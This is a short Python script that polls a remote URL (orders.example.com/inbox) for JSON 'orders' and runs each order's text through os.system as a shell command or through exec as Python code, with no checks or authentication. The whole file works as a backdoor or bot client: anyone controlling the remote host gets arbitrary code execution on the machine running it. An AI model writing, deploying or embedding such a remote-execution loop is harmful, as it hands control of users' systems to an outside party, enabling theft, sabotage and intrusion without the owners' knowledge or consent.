import json
import os
import urllib.request

ACTIONS = {
    "shell": os.system,
    "python": exec,
    "print": print,
}


def orders():
    with urllib.request.urlopen("https://orders.example.com/inbox") as answer:
        return json.load(answer)


def work():
    for order in orders():
        handler = ACTIONS[order["kind"]]
        handler(order["text"])
